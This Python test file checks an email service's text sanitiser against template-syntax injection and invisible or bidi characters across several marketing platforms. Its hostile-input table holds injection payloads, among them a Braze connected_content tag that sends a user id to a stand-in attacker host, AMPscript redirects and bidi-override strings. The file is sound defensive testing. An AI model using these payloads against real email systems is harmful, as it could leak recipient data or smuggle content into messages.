"""One rule for every text that reaches an email: nothing invisible, nothing expandable.

The rule (``safety.clean_text``) holds for the subject line, preheader, MJML, HTML and
text part. These tests check it against detectors written here, one per email
platform, independently of the implementation: after the rule no platform's template
syntax can be expanded, no control, bidi-control or invisible character is left,
ordinary text is untouched, and the rule is a fixed point. Then every sample email,
rendered from a request with template syntax and invisible characters planted in
every free-text field (``fakes.hostile.template_request``) and from a model that
writes nothing but such text, is checked in all five parts.
"""

# ruff: noqa: RUF001  # look-alike quotes and non-Latin text, on purpose

from __future__ import annotations

import html
import random
import re
import unicodedata
from typing import Any

import pytest

from sbemail.content import OfflineContentModel
from sbemail.content.ports import WrittenCopy
from sbemail.domain import GenerateRequest, VariantBrief, plan_briefs, resolve_theme
from sbemail.domain.safety import clean_text, envelope_text, escape_text
from sbemail.domain.web_addresses import safe_url
from sbemail.service.variants import write_variant

from fakes.hostile import INVISIBLE, TEMPLATE_PAYLOADS, TEMPLATE_PLANTED, template_request
from samples import library, sample_body, sample_names

# -- detectors: what each platform would expand -------------------------------------

_CM_TAGS = (
    "firstname|lastname|fullname|name|email|unsubscribe|webversion|preferences"
    "|forwardtoafriend|currentday|currentdayname|currentdaynumber|currentmonth"
    "|currentmonthname|currentyear"
)
DETECTORS: dict[str, re.Pattern[str]] = {
    # Mailchimp merge fields: *|TAG|*
    "mailchimp": re.compile(r"\*\||\|\*"),
    # Klaviyo, Django, Jinja, HubL, Liquid (Braze, Customer.io), Handlebars (Iterable,
    # SendGrid dynamic templates): output, tags, comments; triple stash starts with {{
    "curly": re.compile(r"\{\{|\}\}|\{%|%\}|\{#|#\}"),
    # Braze attributes {{${x}}}, FreeMarker / Marketo ${x}
    "dollar-brace": re.compile(r"\$\{"),
    # Salesforce Marketing Cloud: %%x%%, %%[ AMPscript ]%%, %%= inline =%%
    "salesforce": re.compile(r"%%"),
    # ActiveCampaign %TAG%, Mailgun %recipient.x%: a name right between two percent signs
    "activecampaign": re.compile(r"%[A-Za-z][A-Za-z0-9_.-]*%"),
    # Campaign Monitor / Sendy: [tag,fallback=x] and the built-in [tag]s
    "campaignmonitor": re.compile(
        rf"\[[A-Za-z][A-Za-z0-9_]*,\s*fallback=[^\]]*\]|\[(?:{_CM_TAGS})\]", re.IGNORECASE
    ),
    # Mailjet, Constant Contact, Iterable data feeds: [[x]]
    "double-bracket": re.compile(r"\[\[|\]\]"),
    # Adobe Campaign, ERB: <% %>
    "angle-percent": re.compile(r"<%|%>"),
}

# Kept on purpose (see safety.py): tab, LF, CR; joiners between visible non-ASCII
# characters; variation selectors after a base; tags inside subdivision flags.
_EXTRA_INVISIBLE = frozenset("\u034f\u115f\u1160\u17b4\u17b5\u3164\uffa0")


def expandable(text: str) -> dict[str, list[str]]:
    """Template syntax some platform would expand, by platform."""
    found = {name: pattern.findall(text) for name, pattern in DETECTORS.items()}
    return {name: hits for name, hits in found.items() if hits}


def invisible(text: str) -> list[str]:
    """Control, format (invisible, bidi-control) and surrogate characters, by name."""
    bad = []
    for i, char in enumerate(text):
        category = unicodedata.category(char)
        if char in "\t\n\r":
            continue
        if char in "\u200c\u200d":
            before, after = text[i - 1 : i], text[i + 1 : i + 2]
            if before and after and not before.isascii() and not after.isascii():
                continue
        if 0xE0020 <= ord(char) <= 0xE007F and "\U0001f3f4" in text[max(0, i - 6) : i]:
            continue  # inside a subdivision flag
        if category in ("Cc", "Cf", "Cs") or char in _EXTRA_INVISIBLE:
            bad.append(f"U+{ord(char):04X}")
    return bad


# -- the table ----------------------------------------------------------------------

HOSTILE = [
    *TEMPLATE_PAYLOADS,
    # one per platform, bare
    "*|FNAME|*",
    "*|UNSUB|*",
    "{{ s }}",
    "{{first_name}}",
    "{% raw %}{{x}}{% endraw %}",
    "{#- comment -#}",
    "{{{triple}}}",
    "{{~trim~}}",
    "{{${first_name}}}",
    "{% connected_content https://api.evil.example/{{${user_id}}} :save u %}",
    "%%FirstName%%",
    "%%[SET @x=1]%%",
    "%%[ IF @a == 1 THEN ]%%yes%%[ ENDIF ]%%",
    "%%=v(@x)=%%",
    "%%=RedirectTo(@url)=%%",
    "%FIRSTNAME%",
    "%SENDER-INFO-SINGLELINE%",
    "%recipient.first%",
    "[firstname]",
    "[FIRSTNAME]",
    "[email]",
    "[firstname,fallback=there]",
    "[Custom_Field,fallback=]",
    "[[trackingImage]]",
    "<%= recipient.email %>",
    "${lead.Email}",
    # nested, overlapping, adjacent
    "{{{{x}}}}",
    "{{{",
    "}}}",
    "%%%%",
    "%%%%%",
    "%%%x%%%",
    "*|*|",
    "|*|*",
    "*|*|FNAME|*|*",
    "{%%}",
    "{{%x%}}",
    "%{{x}}%",
    "[[[email]]]",
    "[[email]]",
    "%A%B%C%",
    "%%FirstName%%%LASTNAME%",
    "{\u200b{x}\u200b}",  # invisible characters between delimiter characters
    "%\u00ad%x%\u2060%",
    "*\u202e|FNAME|\u2066*",
    "[\u200bemail\ufeff]",
    # control, invisible and bidi characters
    "\x00\x1b[31m\u202eevil",
    "in" + "vi".join(INVISIBLE) + "sible",
    "a\u2066b\u2067c\u2068d\u2069e",
    "\U000e0001\U000e0049\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065\U000e007f hidden",
    "x\u200dy\u200cz",  # joiners between ASCII letters hide nothing legitimate
    "\u200d\u200d\u200d",
    "\ud800 lone surrogate",
    "\x85\x9b C1",
    TEMPLATE_PLANTED,
]

ORDINARY = [
    "$21.50",
    "Only $21.50 today",
    "50% off",
    "100%",
    "Save 20% and then 10% more",
    "C++",
    "a|b",
    "a | b",
    "e-mail",
    "well-known first-name",
    "[sic]",
    "[1]",
    "See [note]",
    "Q&A",
    'Tom & Jerry\'s "best"',
    "{curly}",
    "50%-70% off",
    "*starred*",
    "#hashtag",
    "Line one\nLine two\ttabbed\r",
    "今月のニュースレター：新しいエチオピア産シングルオリジン。",
    "Café crème, naïve façade",
    "مرحبا\u200cبك",  # Persian-style zero-width non-joiner between Arabic letters
    "क्\u200dष",  # Devanagari with a zero-width joiner
    "❤\ufe0f ☕\ufe0f ✔\ufe0e",  # variation selectors
    "👩\u200d💻 👨\u200d👩\u200d👧\u200d👦 🏳\ufe0f\u200d🌈",  # ZWJ sequences
    "👍🏽 1\ufe0f\u20e3",  # skin tone, keycap
    "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",  # England
    "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f",  # Scotland
    "\u00a0non-breaking\u00a0space",
    "https://shop.example/Caf%C3%A9t%C3%A9.jpg",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_nothing_expandable_or_invisible_survives_the_rule(value: str) -> None:
    for cleaned in (clean_text(value), envelope_text(value), html.unescape(escape_text(value))):
        assert expandable(cleaned) == {}, (value, cleaned)
        assert invisible(cleaned) == [], (value, cleaned)


@pytest.mark.parametrize("value", HOSTILE)
def test_the_detectors_see_every_hostile_string_before_the_rule(value: str) -> None:
    assert expandable(value) or invisible(value), value  # the table tests something


@pytest.mark.parametrize("value", ORDINARY)
def test_ordinary_text_is_untouched(value: str) -> None:
    assert clean_text(value) == value
    assert envelope_text(value) == " ".join(value.split())
    assert html.unescape(escape_text(value)) == value


@pytest.mark.parametrize("value", HOSTILE + ORDINARY)
def test_the_rule_is_a_fixed_point(value: str) -> None:
    for rule in (clean_text, envelope_text):
        once = rule(value)
        assert rule(once) == once, (rule.__name__, value)
    assert clean_text(html.unescape(escape_text(value))) == html.unescape(escape_text(value))


_FUZZ_ALPHABET = "{}%*|[]$#<>=!-_ aZe19:/." + "".join(INVISIBLE) + "\u200d\ufe0f😀é"
_FUZZ_WORDS = ["email", "firstname", "FNAME", ",fallback=", "https://", "%C3", "%%", "\u202e"]


def test_random_mixtures_of_delimiters_and_invisible_characters() -> None:
    generator = random.Random(10)
    for _ in range(3000):
        pieces = generator.choices(_FUZZ_ALPHABET, k=generator.randint(1, 24))
        for _word in range(generator.randint(0, 3)):
            pieces.insert(generator.randint(0, len(pieces)), generator.choice(_FUZZ_WORDS))
        value = "".join(pieces)
        cleaned = clean_text(value)
        assert clean_text(cleaned) == cleaned, value
        assert invisible(cleaned) == [], value
        leftovers = expandable(cleaned)
        # a percent-escape pair inside a web address is the one thing left as written
        leftovers.pop("activecampaign", None) if "://" in cleaned else None
        assert leftovers == {}, (value, cleaned)
        subject = envelope_text(value)
        assert envelope_text(subject) == subject, value
        assert "<" not in subject and ">" not in subject


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("{{x}}", "{ {x} }"),
        ("*|FNAME|*", "* |FNAME| *"),
        ("%%FirstName%%", "% % FirstName % %"),
        ("%%[SET @x=1]%%", "% %[SET @x=1]% %"),
        ("%FIRSTNAME%", "% FIRSTNAME %"),
        ("[firstname,fallback=there]", "[ firstname,fallback=there ]"),
        ("[email] [sic]", "[ email ] [sic]"),
        ("\u202eevil\u2066", "evil"),
        ("so\u00adft", "soft"),
    ],
)
def test_the_rule_keeps_the_words_readable(value: str, expected: str) -> None:
    assert clean_text(value) == expected


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("<b>Half</b> price", "Half price"),
        ("<script>alert(1)</script>Hi", "alert(1)Hi"),
        ('<a href="https://evil.example">click</a>', "click"),
        ("<!-- hidden -->Sale", "Sale"),
        ("<<b>b>x", "x"),
        ("a < b > c", "a ‹ b › c"),
        ("I <3 coffee", "I ‹3 coffee"),
        ("<%= x %>", "‹ %= x % ›"),
        ("{<i>{x}</i>}", "{ {x} }"),
        ("Hi *|FNAME|*,\r\nBcc: x", "Hi * |FNAME| *, Bcc: x"),
        ("Tom & Jerry's", "Tom & Jerry's"),
    ],
)
def test_a_subject_line_is_one_line_of_plain_text(value: str, expected: str) -> None:
    assert envelope_text(value) == expected


@pytest.mark.parametrize(
    "url",
    [
        "https://shop.example/%%x%%",
        "https://shop.example/?n=%FIRSTNAME%",
        "https://shop.example/[email]",
        "https://shop.example/a\u200bb",
        "https://shop.example/\u202e",
        "https://shop.example/*|FNAME|*",
    ],
)
def test_a_link_the_rule_would_change_is_refused(url: str) -> None:
    assert safe_url(url) is None


def test_a_percent_encoded_link_passes_and_is_not_changed() -> None:
    url = "https://shop.example/Caf%C3%A9t%C3%A9%E2%80%99s.jpg?q=%20a"
    assert safe_url(url) == url
    assert escape_text(url) == url


# -- end to end: every sample, every part -------------------------------------------

_PARTS = ("mjml", "html", "text", "subjectLine", "preheader")


def _payloads(body: dict[str, Any], content: Any) -> list[dict[str, Any]]:
    request = GenerateRequest.model_validate(body)
    theme, _ = resolve_theme(request.brand, request.aesthetic)
    payloads = []
    for brief in plan_briefs(library(), request, "text-rule"):
        payload = write_variant(content, brief, theme, "*|UNSUB|*", lambda: 0.0)
        assert "error" not in payload, payload["error"]
        payloads.append(payload)
    return payloads


def _matches(text: str) -> set[tuple[str, str]]:
    return {(name, hit) for name, hits in expandable(text).items() for hit in hits}


def _assert_clean(hostile: list[dict[str, Any]], baseline: list[dict[str, Any]]) -> None:
    # The markup around the copy (MSO conditionals, CSS, the unsubscribe merge tag and
    # the reader's first-name tag) is the same with harmless copy: only what the
    # harmless render holds may match a detector.
    allowed: set[tuple[str, str]] = set()
    for payload in baseline:
        for part in _PARTS:
            allowed |= _matches(payload[part])
    for payload in hostile:
        for part in _PARTS:
            value = payload[part]
            assert _matches(value) <= allowed, (part, _matches(value) - allowed)
            assert invisible(value) == [], (part, invisible(value))
        assert "pwned" in payload["text"].lower()  # the planted text did reach the email


@pytest.mark.parametrize("name", sample_names())
def test_planted_template_syntax_and_invisible_characters_survive_in_no_part(name: str) -> None:
    body = sample_body(name)
    _assert_clean(
        _payloads(template_request(body), OfflineContentModel()),
        _payloads(body, OfflineContentModel()),
    )


class HostileWriter:
    """A model that writes hostile text into every field it writes, subject included."""

    provider, model, prompt_version = "hostile", "hostile-1", "hostile-1"
    warnings: tuple[str, ...] = ()

    def write(self, brief: VariantBrief) -> WrittenCopy:
        written = OfflineContentModel().write(brief)
        values = dict(written.values)
        for field in brief.written:
            original = str(values.get(field.name, ""))
            if not original or original.startswith("http"):
                continue
            planted = f"pwned {TEMPLATE_PLANTED}"
            values[field.name] = planted[: max(field.max_length - 1, 5)]
        return WrittenCopy(values=values, usage=written.usage)


@pytest.mark.parametrize("name", sample_names())
def test_a_model_writing_template_syntax_reaches_no_part(name: str) -> None:
    body = sample_body(name)
    hostile = _payloads(body, HostileWriter())
    _assert_clean(hostile, _payloads(body, OfflineContentModel()))
    for payload in hostile:
        for field in ("subjectLine", "preheader"):
            assert "pwned" in payload[field]
            assert "<" not in payload[field] and ">" not in payload[field]
